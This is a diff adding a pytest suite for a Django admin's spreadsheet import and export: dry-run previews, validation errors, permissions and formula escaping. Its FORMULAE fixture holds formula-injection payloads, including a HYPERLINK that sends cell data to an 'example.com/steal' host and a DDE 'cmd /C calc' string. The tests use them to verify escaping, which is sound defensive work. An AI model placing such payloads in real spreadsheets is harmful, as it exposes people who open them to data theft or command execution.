@@ -1,0 +1,861 @@
+"""Spreadsheet import and export in the admin, driven through django-import-export's real views.
+
+django-import-export 4.4.3 declares support only up to Django 5.2; these tests prove that, under
+the project's Django, a user can upload a sheet, see a dry-run preview that saves nothing, confirm
+it, and export csv and xlsx files that keep numbers as numbers and never carry a runnable
+formula, with each group allowed only what the permissions migration grants it.
+"""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+from types import SimpleNamespace
+
+import openpyxl
+import pytest
+from django.contrib import admin
+from django.contrib.auth.models import Group
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from import_export.formats.base_formats import CSV, XLSX
+
+from budgets.models import BudgetLine
+from kpis import choices as kpi_choices
+from kpis.models import Indicator, Measurement
+from plans import choices as plan_choices
+from plans.models import Milestone
+from tests.budgets.factories import BudgetCategoryFactory, BudgetFactory, BudgetLineFactory
+from tests.kpis.factories import IndicatorFactory, MeasurementFactory
+from tests.plans.factories import (
+    MilestoneFactory,
+    PlanYearFactory,
+    ProjectFactory,
+    RoleFactory,
+    UserFactory,
+)
+
+pytestmark = pytest.mark.django_db
+
+FORMULAE = [
+    '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
+    "+44 20 7783 8330",
+    "-danger",
+    "@SUM(A1)",
+    "\tcmd|' /C calc'!A0",
+    "\rtrailing",
+]
+
+
+# ---------------------------------------------------------------------------------------------
+# Driving the admin views
+# ---------------------------------------------------------------------------------------------
+
+
+def admin_url(model, action):
+    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{action}")
+
+
+def format_index(model, format_class, *, export=False):
+    """The value of the `format` choice the form offers for a file format."""
+    model_admin = admin.site._registry[model]
+    formats = model_admin.get_export_formats() if export else model_admin.get_import_formats()
+    return str(formats.index(format_class))
+
+
+def csv_upload(rows, name="sheet.csv"):
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"), content_type="text/csv")
+
+
+def xlsx_upload(rows, name="sheet.xlsx"):
+    workbook = openpyxl.Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return SimpleUploadedFile(name, buffer.getvalue(), content_type=XLSX.CONTENT_TYPE)
+
+
+def upload(client, model, rows, format_class=CSV):
+    """Post a sheet (rows, or a file's bytes) to the admin's import form: the dry-run preview."""
+    if isinstance(rows, bytes):
+        name = f"sheet.{format_class().get_extension()}"
+        file = SimpleUploadedFile(name, rows, content_type=format_class.CONTENT_TYPE)
+    elif format_class is XLSX:
+        file = xlsx_upload(rows)
+    else:
+        file = csv_upload(rows)
+    return client.post(
+        admin_url(model, "import"),
+        {"import_file": file, "format": format_index(model, format_class), "resource": "0"},
+    )
+
+
+def confirm(client, model, preview):
+    """Press "Confirm import" on a preview page: post its hidden fields to process_import."""
+    form = preview.context["confirm_form"]
+    data = {name: form.initial[name] for name in form.fields}
+    return client.post(admin_url(model, "process_import"), data, follow=True)
+
+
+def export(client, model, format_class, fields=None):
+    """Post the admin's export form with every field of the model's resource ticked."""
+    model_admin = admin.site._registry[model]
+    resource_class = model_admin.get_export_resource_classes(None)[0]
+    fields = fields or resource_class().get_export_order()
+    data = {"format": format_index(model, format_class, export=True), "resource": "0"}
+    for field in fields:
+        data[f"{resource_class.__name__.lower()}_{field}"] = "on"
+    return client.post(admin_url(model, "export"), data)
+
+
+def csv_rows(response):
+    assert response.status_code == 200, response.content[:2000]
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
+
+
+def xlsx_sheet(response):
+    assert response.status_code == 200, response.content[:2000]
+    assert response["Content-Type"] == XLSX.CONTENT_TYPE
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    headers = [cell.value for cell in sheet[1]]
+    return headers, [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+
+def problems(response):
+    """Every problem the preview reports, as (line number, field, message)."""
+    result = response.context["result"]
+    found = []
+    for row in result.invalid_rows:
+        for field, messages in row.field_specific_errors.items():
+            found.extend((row.number, field, message) for message in messages)
+        found.extend((row.number, None, message) for message in row.non_field_specific_errors)
+    for line, errors in result.row_errors():
+        found.extend((line, None, str(error.error)) for error in errors)
+    found.extend((None, None, str(error.error)) for error in result.base_errors)
+    return found
+
+
+def import_types(response):
+    return [row.import_type for row in response.context["result"].valid_rows()]
+
+
+def text(response):
+    return response.content.decode("utf-8")
+
+
+def assert_preview_only(response):
+    """The preview page shows the rows and a confirm button, with no errors."""
+    assert response.status_code == 200
+    assert problems(response) == []
+    assert response.context["confirm_form"] is not None
+    assert "Confirm import" in text(response)
+
+
+def assert_refused(response):
+    """The preview page reports problems and offers nothing to confirm."""
+    assert response.status_code == 200
+    assert problems(response)
+    assert "confirm_form" not in response.context
+    assert "Confirm import" not in text(response)
+
+
+# ---------------------------------------------------------------------------------------------
+# A plan year to import into
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def plan(db):
+    year = PlanYearFactory(year="2010-11")
+    later_year = PlanYearFactory(year="2011-12")
+    return SimpleNamespace(
+        year=year,
+        later_year=later_year,
+        voices=ProjectFactory(plan_year=year, title="Children's voices"),
+        panel=ProjectFactory(plan_year=year, title="Young people's panel"),
+        # The same title in another year: lookups are scoped to the row's plan year.
+        later_voices=ProjectFactory(plan_year=later_year, title="Children's voices"),
+        policy=RoleFactory(title="Director of Policy"),
+        services=RoleFactory(title="Director of Corporate Services"),
+        kpi1=IndicatorFactory(plan_year=year, ref="KPI1", annual_target=Decimal("50000")),
+        ratio=IndicatorFactory(
+            plan_year=year,
+            ref="KPI2",
+            title="Share of children who felt listened to",
+            unit=kpi_choices.Unit.PERCENTAGE,
+            aggregation=kpi_choices.Aggregation.RATIO,
+            annual_target=Decimal("80"),
+        ),
+        later_kpi1=IndicatorFactory(plan_year=later_year, ref="KPI1"),
+        budget=BudgetFactory(plan_year=year),
+        pay=BudgetCategoryFactory(name="Pay"),
+        income=BudgetCategoryFactory(name="Income", is_income=True),
+        governance=BudgetCategoryFactory(name="Governance"),
+    )
+
+
+@pytest.fixture(autouse=True)
+def fast_password_hashing(settings):
+    # Every test signs a user in; a deliberately slow hasher would dominate their run time.
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+
+
+@pytest.fixture
+def admin_client_for(client, user_in_group):
+    def sign_in(group_name):
+        user = user_in_group(group_name)
+        client.force_login(user)
+        client.user = user
+        return client
+
+    return sign_in
+
+
+# ---------------------------------------------------------------------------------------------
+# 1. Upload, preview (nothing saved), confirm (saved with the right values)
+# ---------------------------------------------------------------------------------------------
+
+INDICATOR_HEADERS = [
+    "plan_year",
+    "ref",
+    "title",
+    "tier",
+    "project",
+    "owners",
+    "unit",
+    "direction",
+    "aggregation",
+    "frequency",
+    "annual_target",
+    "baseline",
+    "target_change_percent",
+    "later_target",
+    "later_target_year",
+    "target_wording",
+    "purpose",
+    "notes",
+]
+
+
+def test_indicators_are_previewed_then_imported(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    rows = [
+        INDICATOR_HEADERS,
+        # An update of KPI1 (a new target) and a new project indicator.
+        [
+            "2010-11", "KPI1", plan.kpi1.title, "key", "", "Director of Policy", "count",
+            "higher", "total", "monthly", "52500.1234", "", "", "", "", "52,500", "", "",
+        ],
+        [
+            "2010-11", "PI1", "Consultations run with children", "project", "Children's voices",
+            "Director of Policy;Director of Corporate Services", "count", "higher", "total",
+            "quarterly", "", "40", "12.5", "100", "2013", "12.5% more than 2009-10",
+            "Count of consultations", "-from the PID",
+        ],
+    ]  # fmt: skip
+    before = Indicator.objects.count()
+
+    preview = upload(client, Indicator, rows)
+
+    assert_preview_only(preview)
+    assert import_types(preview) == ["update", "new"]
+    assert "Consultations run with children" in text(preview)
+    assert Indicator.objects.count() == before
+    plan.kpi1.refresh_from_db()
+    assert plan.kpi1.annual_target == Decimal("50000")
+
+    done = confirm(client, Indicator, preview)
+
+    assert done.status_code == 200
+    assert "Import finished: 1 new, 1 updated" in text(done)
+    assert Indicator.objects.count() == before + 1
+    plan.kpi1.refresh_from_db()
+    assert plan.kpi1.annual_target == Decimal("52500.1234")
+    assert list(plan.kpi1.owners.all()) == [plan.policy]
+    new = Indicator.objects.get(plan_year=plan.year, ref="PI1")
+    assert new.project == plan.voices  # the 2010-11 project, not 2011-12's of the same title
+    assert new.frequency == kpi_choices.Frequency.QUARTERLY
+    assert new.annual_target is None
+    assert new.baseline == Decimal("40")
+    assert new.target_change_percent == Decimal("12.5")
+    assert new.target == Decimal("45")
+    assert new.later_target_year == "2013"
+    assert new.notes == "-from the PID"
+    assert set(new.owners.all()) == {plan.policy, plan.services}
+
+
+MEASUREMENT_HEADERS = [
+    "plan_year",
+    "indicator",
+    "period",
+    "value",
+    "numerator",
+    "denominator",
+    "commentary",
+]
+
+
+def test_measurements_are_previewed_then_imported_as_entered_by_the_importer(
+    admin_client_for, plan
+):
+    someone_else = UserFactory(username="previous")
+    MeasurementFactory(
+        indicator=plan.kpi1, period=datetime.date(2010, 4, 1), entered_by=someone_else
+    )
+    client = admin_client_for("Directors")
+    rows = [
+        MEASUREMENT_HEADERS,
+        ["2010-11", "KPI1", "2010-04-01", "4150.5", "", "", "Corrected count"],
+        ["2010-11", "KPI1", "2010-05-01", "3900", "", "", "+12% on May 2009"],
+        ["2010-11", "KPI2", "2010-05-01", "", "41", "50", ""],
+    ]
+
+    preview = upload(client, Measurement, rows)
+
+    assert_preview_only(preview)
+    assert import_types(preview) == ["update", "new", "new"]
+    assert Measurement.objects.count() == 1
+    assert Measurement.objects.get().value == Decimal("4100")
+
+    done = confirm(client, Measurement, preview)
+
+    assert "Import finished: 2 new, 1 updated" in text(done)
+    assert Measurement.objects.count() == 3
+    april, may = Measurement.objects.filter(indicator=plan.kpi1).order_by("period")
+    assert april.value == Decimal("4150.5")
+    assert april.commentary == "Corrected count"
+    assert may.value == Decimal("3900")
+    assert may.commentary == "+12% on May 2009"
+    ratio = Measurement.objects.get(indicator=plan.ratio)
+    assert (ratio.value, ratio.numerator, ratio.denominator) == (None, Decimal(41), Decimal(50))
+    # The admin passes the importing user to the resource, which records who entered the actuals.
+    assert {m.entered_by for m in Measurement.objects.all()} == {client.user}
+
+
+MILESTONE_HEADERS = [
+    "id",
+    "plan_year",
+    "project",
+    "title",
+    "due_on",
+    "status",
+    "completed_on",
+    "commentary",
+    "is_illustrative",
+]
+
+
+def test_milestones_are_previewed_then_imported(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    existing = MilestoneFactory(project=plan.panel, title="Recruit the panel")
+    rows = [
+        MILESTONE_HEADERS,
+        [existing.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
+         "done", "2010-06-15", "Recruited 24 members", "0"],
+        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "at risk",
+         "", "", "0"],
+    ]  # fmt: skip
+
+    preview = upload(client, Milestone, rows)
+
+    assert_preview_only(preview)
+    assert import_types(preview) == ["update", "new"]
+    assert Milestone.objects.count() == 1
+    existing.refresh_from_db()
+    assert existing.status == plan_choices.MilestoneStatus.ON_TRACK
+
+    done = confirm(client, Milestone, preview)
+
+    assert "Import finished: 1 new, 1 updated" in text(done)
+    existing.refresh_from_db()
+    assert existing.status == plan_choices.MilestoneStatus.DONE
+    assert existing.completed_on == datetime.date(2010, 6, 15)
+    assert existing.due_on == datetime.date(2010, 6, 30)
+    assert existing.commentary == "Recruited 24 members"
+    new = Milestone.objects.get(title="Publish the report")
+    assert new.project == plan.voices
+    assert new.status == plan_choices.MilestoneStatus.AT_RISK
+    assert new.completed_on is None
+
+
+BUDGET_LINE_HEADERS = ["id", "plan_year", "category", "project", "amount", "description", "notes"]
+
+
+def test_budget_lines_are_previewed_then_imported(admin_client_for, plan):
+    client = admin_client_for("Corporate services")
+    rows = [
+        BUDGET_LINE_HEADERS,
+        ["", "2010-11", "Pay", "", "1473000.55", "Staff costs", ""],
+        ["", "2010-11", "Income", "", "-93000.00", "Income from the Big Lottery", ""],
+        ["", "2010-11", "Governance", "Children's voices", "0.01", "", ""],
+    ]
+
+    preview = upload(client, BudgetLine, rows)
+
+    assert_preview_only(preview)
+    assert import_types(preview) == ["new", "new", "new"]
+    assert BudgetLine.objects.count() == 0
+
+    done = confirm(client, BudgetLine, preview)
+
+    assert "Import finished: 3 new, 0 updated" in text(done)
+    lines = {line.category.name: line for line in BudgetLine.objects.all()}
+    assert lines["Pay"].amount == Decimal("1473000.55")
+    assert lines["Pay"].budget == plan.budget
+    assert lines["Income"].amount == Decimal("-93000.00")
+    assert lines["Income"].description == "Income from the Big Lottery"
+    assert lines["Governance"].amount == Decimal("0.01")
+    assert lines["Governance"].project == plan.voices
+
+
+def test_an_xlsx_workbook_is_imported_with_native_numbers_and_dates(admin_client_for, plan):
+    client = admin_client_for("Corporate services")
+    rows = [
+        BUDGET_LINE_HEADERS,
+        [None, "2010-11", "Pay", None, 1473000.55, "Staff costs", None],
+        [None, "2010-11", "Income", None, -93000, "=not a formula once escaped", None],
+    ]
+
+    preview = upload(client, BudgetLine, rows, XLSX)
+
+    assert_preview_only(preview)
+    assert BudgetLine.objects.count() == 0
+    confirm(client, BudgetLine, preview)
+    lines = {line.category.name: line for line in BudgetLine.objects.all()}
+    assert lines["Pay"].amount == Decimal("1473000.55")
+    assert lines["Income"].amount == Decimal("-93000")
+
+    client = admin_client_for("Directors")
+    rows = [
+        MEASUREMENT_HEADERS,
+        ["2010-11", "KPI1", datetime.date(2010, 6, 1), 4100.25, None, None, None],
+    ]
+    preview = upload(client, Measurement, rows, XLSX)
+    assert_preview_only(preview)
+    confirm(client, Measurement, preview)
+    measurement = Measurement.objects.get()
+    assert measurement.period == datetime.date(2010, 6, 1)
+    assert measurement.value == Decimal("4100.25")
+    assert measurement.entered_by == client.user
+
+
+# ---------------------------------------------------------------------------------------------
+# 2. A bad sheet names the line and the column, and saves nothing
+# ---------------------------------------------------------------------------------------------
+
+
+def test_an_unknown_indicator_is_refused_and_the_good_row_is_not_saved(admin_client_for, plan):
+    client = admin_client_for("Directors")
+    rows = [
+        MEASUREMENT_HEADERS,
+        ["2010-11", "KPI1", "2010-04-01", "4100", "", "", ""],
+        ["2010-11", "KPI99", "2010-04-01", "12", "", "", ""],
+    ]
+
+    preview = upload(client, Measurement, rows)
+
+    assert_refused(preview)
+    assert problems(preview) == [
+        (2, "indicator", "No indicator called 'KPI99' in plan year '2010-11'.")
+    ]
+    assert "No indicator called &#x27;KPI99&#x27; in plan year &#x27;2010-11&#x27;." in text(
+        preview
+    )
+    assert Measurement.objects.count() == 0
+
+
+def test_an_unknown_project_is_refused(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    rows = [
+        MILESTONE_HEADERS,
+        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
+         "", "", "0"],
+        ["", "2010-11", "No such project", "Hold a summit", "2011-03-31", "on track", "", "",
+         "0"],
+    ]  # fmt: skip
+
+    preview = upload(client, Milestone, rows)
+
+    assert_refused(preview)
+    assert problems(preview) == [
+        (2, "project", "No project called 'No such project' in plan year '2010-11'.")
+    ]
+    assert Milestone.objects.count() == 0
+
+
+def test_a_non_number_amount_is_refused_naming_the_line_and_column(admin_client_for, plan):
+    client = admin_client_for("Corporate services")
+    rows = [
+        BUDGET_LINE_HEADERS,
+        ["", "2010-11", "Pay", "", "1473000", "Staff costs", ""],
+        ["", "2010-11", "Governance", "", "about 2k", "", ""],
+    ]
+
+    preview = upload(client, BudgetLine, rows)
+
+    assert_refused(preview)
+    assert problems(preview) == [(2, "amount", "Enter a number.")]
+    assert "Enter a number." in text(preview)
+    assert BudgetLine.objects.count() == 0
+
+
+def test_an_unknown_category_is_refused_naming_the_line_and_column(admin_client_for, plan):
+    client = admin_client_for("Corporate services")
+    rows = [BUDGET_LINE_HEADERS, ["", "2010-11", "Catering", "", "100", "", ""]]
+
+    preview = upload(client, BudgetLine, rows)
+
+    assert_refused(preview)
+    assert problems(preview) == [(1, "category", "No budget category called 'Catering'.")]
+    assert BudgetLine.objects.count() == 0
+
+
+def test_an_invalid_choice_is_refused_naming_the_line_and_column(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "", "count", "sideways",
+           "total", "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip
+    before = Indicator.objects.count()
+
+    preview = upload(client, Indicator, [INDICATOR_HEADERS, row])
+
+    assert_refused(preview)
+    assert problems(preview) == [(1, "direction", "Value 'sideways' is not a valid choice.")]
+    assert "Value &#x27;sideways&#x27; is not a valid choice." in text(preview)
+    assert Indicator.objects.count() == before
+
+
+def test_an_unknown_owner_is_refused_rather_than_dropped(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "Director of Policy;Head of Nothing",
+           "count", "lower", "total", "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip
+
+    preview = upload(client, Indicator, [INDICATOR_HEADERS, row])
+
+    assert_refused(preview)
+    assert problems(preview) == [(1, "owners", "No role called 'Head of Nothing'.")]
+
+
+def test_a_ratio_measurement_without_its_numerator_is_refused(admin_client_for, plan):
+    client = admin_client_for("Directors")
+    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI2", "2010-04-01", "82", "", "", ""]]
+
+    preview = upload(client, Measurement, rows)
+
+    assert_refused(preview)
+    assert problems(preview) == [
+        (1, "numerator", "This indicator is a ratio: give a numerator and denominator.")
+    ]
+    assert "This indicator is a ratio: give a numerator and denominator." in text(preview)
+    assert Measurement.objects.count() == 0
+
+
+def test_a_sheet_that_went_bad_after_its_preview_saves_nothing_on_confirm(admin_client_for, plan):
+    client = admin_client_for("Administrators")
+    rows = [
+        MILESTONE_HEADERS,
+        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
+         "", "", "0"],
+        ["", "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30", "on track",
+         "", "", "0"],
+    ]  # fmt: skip
+    preview = upload(client, Milestone, rows)
+    assert_preview_only(preview)
+    # Someone renames a project between the preview and the confirmation.
+    plan.panel.title = "Youth panel"
+    plan.panel.save()
+
+    done = confirm(client, Milestone, preview)
+
+    assert Milestone.objects.count() == 0
+    page = text(done)
+    assert "Import finished" not in page
+    assert "Nothing was imported" in page
+    assert "Line 2" in page
+    assert "project" in page
+
+
+# ---------------------------------------------------------------------------------------------
+# 3. Exports keep numbers as numbers and never carry a runnable formula; they import back
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def risky(plan):
+    """Rows whose text would run as a formula in a spreadsheet, beside plain numbers."""
+    milestones = [
+        MilestoneFactory(project=plan.voices, title=title, commentary=title) for title in FORMULAE
+    ]
+    milestones.append(
+        MilestoneFactory(project=plan.voices, title="'=already quoted", commentary="'-x")
+    )
+    milestones.append(MilestoneFactory(project=plan.voices, title="Plain title"))
+    return SimpleNamespace(
+        income=BudgetLineFactory(
+            budget=plan.budget,
+            category=plan.income,
+            amount=Decimal("-93000.00"),
+            description="+44",
+            notes="@SUM(A1)",
+        ),
+        pay=BudgetLineFactory(
+            budget=plan.budget,
+            category=plan.pay,
+            amount=Decimal("1473000.55"),
+            description="-danger",
+            notes="\tTabbed",
+        ),
+        milestones=milestones,
+    )
+
+
+def test_an_xlsx_export_keeps_numbers_and_escapes_formula_text(admin_client_for, plan, risky):
+    client = admin_client_for("Corporate services")
+
+    headers, rows = xlsx_sheet(export(client, BudgetLine, XLSX))
+
+    assert headers == ["id", "plan_year", "category", "project", "amount", "description", "notes"]
+    by_category = {row["category"].value: row for row in rows}
+    income, pay = by_category["Income"], by_category["Pay"]
+    assert income["amount"].data_type == "n"
+    assert income["amount"].value == -93000
+    assert pay["amount"].data_type == "n"
+    assert Decimal(str(pay["amount"].value)) == Decimal("1473000.55")
+    assert income["description"].value == "'+44"
+    assert income["notes"].value == "'@SUM(A1)"
+    assert pay["description"].value == "'-danger"
+    assert pay["notes"].value == "'\tTabbed"
+    assert income["plan_year"].value == "2010-11"
+    assert all(cell.data_type != "f" for row in rows for cell in row.values())
+
+
+def test_an_xlsx_milestone_export_escapes_every_formula_trigger(admin_client_for, plan, risky):
+    client = admin_client_for("Staff")
+
+    _headers, rows = xlsx_sheet(export(client, Milestone, XLSX))
+
+    # XML, which xlsx is, reads a carriage return back as a line feed; the apostrophe remains.
+    titles = {row["title"].value.replace("\n", "\r") for row in rows}
+    assert {"'" + formula for formula in FORMULAE} <= titles
+    assert "Plain title" in titles
+    assert all(cell.data_type != "f" for row in rows for cell in row.values())
+    due = next(row["due_on"] for row in rows if row["title"].value == "Plain title")
+    assert due.is_date
+
+
+def test_a_csv_export_keeps_numbers_and_escapes_formula_text(admin_client_for, plan, risky):
+    client = admin_client_for("Corporate services")
+
+    rows = {row["category"]: row for row in csv_rows(export(client, BudgetLine, CSV))}
+
+    assert rows["Income"]["amount"] == "-93000.00"
+    assert rows["Pay"]["amount"] == "1473000.55"
+    assert rows["Income"]["description"] == "'+44"
+    assert rows["Income"]["notes"] == "'@SUM(A1)"
+    assert rows["Pay"]["description"] == "'-danger"
+    assert rows["Pay"]["notes"] == "'\tTabbed"
+
+    milestones = csv_rows(export(admin_client_for("Administrators"), Milestone, CSV))
+    titles = {row["title"] for row in milestones}
+    assert {"'" + formula for formula in FORMULAE} <= titles
+    assert all(not title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)
+
+
+def test_a_negative_indicator_target_change_exports_as_a_number(admin_client_for, plan):
+    IndicatorFactory(
+        plan_year=plan.year, ref="EI9", baseline=Decimal("12"), annual_target=None,
+        target_change_percent=Decimal("-10"), target_wording="-10% on 2009-10",
+    )  # fmt: skip
+    client = admin_client_for("Directors")
+
+    _headers, rows = xlsx_sheet(export(client, Indicator, XLSX))
+
+    row = next(row for row in rows if row["ref"].value == "EI9")
+    assert row["target_change_percent"].data_type == "n"
+    assert row["target_change_percent"].value == -10
+    assert row["target_wording"].value == "'-10% on 2009-10"
+    csv_row = next(r for r in csv_rows(export(client, Indicator, CSV)) if r["ref"] == "EI9")
+    assert csv_row["target_change_percent"] == "-10.0000"
+    assert csv_row["target_wording"] == "'-10% on 2009-10"
+
+
+def test_an_exported_csv_imports_back_to_the_original_text(admin_client_for, plan, risky):
+    client = admin_client_for("Administrators")
+    original = {m.pk: (m.title, m.commentary) for m in Milestone.objects.all()}
+    exported = export(client, Milestone, CSV).content
+
+    # Unchanged rows are recognised as unchanged: the apostrophes come off on the way in.
+    preview = upload(client, Milestone, exported)
+    assert_preview_only(preview)
+    assert set(import_types(preview)) == {"skip"}
+
+    # Imported afresh, every title and commentary is the original text.
+    Milestone.objects.all().delete()
+    preview = upload(client, Milestone, exported)
+    assert_preview_only(preview)
+    confirm(client, Milestone, preview)
+    assert {m.pk: (m.title, m.commentary) for m in Milestone.objects.all()} == original
+
+
+def test_an_exported_xlsx_imports_back_to_the_original_numbers_and_text(
+    admin_client_for, plan, risky
+):
+    client = admin_client_for("Corporate services")
+    original = {
+        line.pk: (line.amount, line.description, line.notes) for line in BudgetLine.objects.all()
+    }
+    exported = export(client, BudgetLine, XLSX).content
+    BudgetLine.objects.all().delete()
+
+    preview = upload(client, BudgetLine, exported, XLSX)
+    assert_preview_only(preview)
+    confirm(client, BudgetLine, preview)
+
+    assert {
+        line.pk: (line.amount, line.description, line.notes) for line in BudgetLine.objects.all()
+    } == original
+
+
+# ---------------------------------------------------------------------------------------------
+# 4. Permissions: each group imports and exports only what the migration grants it
+# ---------------------------------------------------------------------------------------------
+
+
+def test_staff_see_no_import_or_export_button_for_indicators_and_are_refused(admin_client_for):
+    client = admin_client_for("Staff")
+
+    changelist = client.get(admin_url(Indicator, "changelist"))
+    assert changelist.status_code == 200
+    assert admin_url(Indicator, "import") not in text(changelist)
+    assert admin_url(Indicator, "export") not in text(changelist)
+
+    assert client.get(admin_url(Indicator, "import")).status_code == 403
+    assert client.post(admin_url(Indicator, "process_import"), {}).status_code == 403
+    assert client.get(admin_url(Indicator, "export")).status_code == 403
+    assert export(client, Indicator, CSV).status_code == 403
+
+
+def test_administrators_see_import_and_export_buttons(admin_client_for):
+    client = admin_client_for("Administrators")
+
+    for model in (Indicator, Measurement, Milestone, BudgetLine):
+        page = text(client.get(admin_url(model, "changelist")))
+        assert admin_url(model, "import") in page
+        assert admin_url(model, "export") in page
+        assert client.get(admin_url(model, "import")).status_code == 200
+        assert client.get(admin_url(model, "export")).status_code == 200
+
+
+def test_staff_export_milestones_but_cannot_import_them(admin_client_for, plan):
+    MilestoneFactory(project=plan.voices)
+    client = admin_client_for("Staff")
+
+    assert len(csv_rows(export(client, Milestone, CSV))) == 1
+    assert client.get(admin_url(Milestone, "import")).status_code == 403
+    rows = [MILESTONE_HEADERS, ["", "2010-11", "Children's voices", "X", "2011-03-31",
+                                "on track", "", "", "0"]]  # fmt: skip
+    assert upload(client, Milestone, rows).status_code == 403
+    assert Milestone.objects.count() == 1
+
+
+def test_directors_export_measurements(admin_client_for, plan):
+    MeasurementFactory(indicator=plan.kpi1)
+    client = admin_client_for("Directors")
+
+    page = text(client.get(admin_url(Measurement, "changelist")))
+    assert admin_url(Measurement, "export") in page
+    rows = csv_rows(export(client, Measurement, CSV))
+    assert [(row["indicator"], row["value"]) for row in rows] == [("KPI1", "4100.0000")]
+
+
+def test_corporate_services_import_budget_lines_but_not_indicators(admin_client_for, plan):
+    client = admin_client_for("Corporate services")
+
+    assert client.get(admin_url(BudgetLine, "import")).status_code == 200
+    preview = upload(
+        client, BudgetLine, [BUDGET_LINE_HEADERS, ["", "2010-11", "Pay", "", "1", "", ""]]
+    )
+    assert_preview_only(preview)
+
+    assert admin_url(Indicator, "import") not in text(
+        client.get(admin_url(Indicator, "changelist"))
+    )
+    assert client.get(admin_url(Indicator, "import")).status_code == 403
+    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "", "count", "lower", "total",
+           "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip
+    assert upload(client, Indicator, [INDICATOR_HEADERS, row]).status_code == 403
+    assert not Indicator.objects.filter(ref="EI1").exists()
+    # They may export indicators, as the migration grants.
+    assert export(client, Indicator, CSV).status_code == 200
+
+
+def test_a_user_without_export_permission_is_refused_budget_lines(admin_client_for, plan):
+    client = admin_client_for("Staff")
+
+    assert client.get(admin_url(BudgetLine, "export")).status_code == 403
+    assert export(client, BudgetLine, XLSX).status_code == 403
+    assert client.get(admin_url(BudgetLine, "import")).status_code == 403
+
+
+def test_group_grants_match_the_permissions_migration():
+    def can(group, action, model):
+        codename = f"{action}_{model._meta.model_name}"
+        return Group.objects.get(name=group).permissions.filter(codename=codename).exists()
+
+    assert can("Directors", "import", Measurement)
+    assert not can("Directors", "import", Indicator)
+    assert can("Corporate services", "import", BudgetLine)
+    assert not can("Corporate services", "import", Indicator)
+    assert not can("Staff", "export", Indicator)
+
+
+# ---------------------------------------------------------------------------------------------
+# 6. Exports run a fixed number of queries, however many rows
+# ---------------------------------------------------------------------------------------------
+
+
+def build_rows(model, plan, count, offset):
+    """`count` rows of `model` in the plan year, each with the relations its export reads."""
+    # One user for them all: a related object is still fetched once per row unless the export
+    # loads it with the rows.
+    entered_by = UserFactory(username="entering")
+    for n in range(offset, offset + count):
+        if model is Measurement:
+            indicator = IndicatorFactory(plan_year=plan.year, ref=f"Q{n}")
+            MeasurementFactory(indicator=indicator, entered_by=entered_by)
+        elif model is Indicator:
+            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
+            indicator = IndicatorFactory(
+                plan_year=plan.year, ref=f"Q{n}", tier="project", project=project
+            )
+            indicator.owners.add(plan.policy, plan.services)
+        elif model is Milestone:
+            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
+            MilestoneFactory(project=project)
+        elif model is BudgetLine:
+            project = ProjectFactory(plan_year=plan.year, title=f"Query project {n}")
+            BudgetLineFactory(budget=plan.budget, category=plan.pay, project=project)
+
+
+@pytest.mark.parametrize("model", [Measurement, Indicator, Milestone, BudgetLine])
+@pytest.mark.parametrize("format_class", [CSV, XLSX])
+def test_export_queries_do_not_grow_with_rows(
+    admin_client_for, plan, django_assert_max_num_queries, model, format_class
+):
+    client = admin_client_for("Administrators")
+    existing = model.objects.count()
+    build_rows(model, plan, 5, 0)
+    with django_assert_max_num_queries(10) as few:
+        response = export(client, model, format_class)
+    assert response.status_code == 200
+
+    build_rows(model, plan, 45, 5)
+    with django_assert_max_num_queries(10) as many:
+        response = export(client, model, format_class)
+    assert response.status_code == 200
+    assert model.objects.count() == existing + 50
+
+    assert len(many.captured_queries) == len(few.captured_queries)
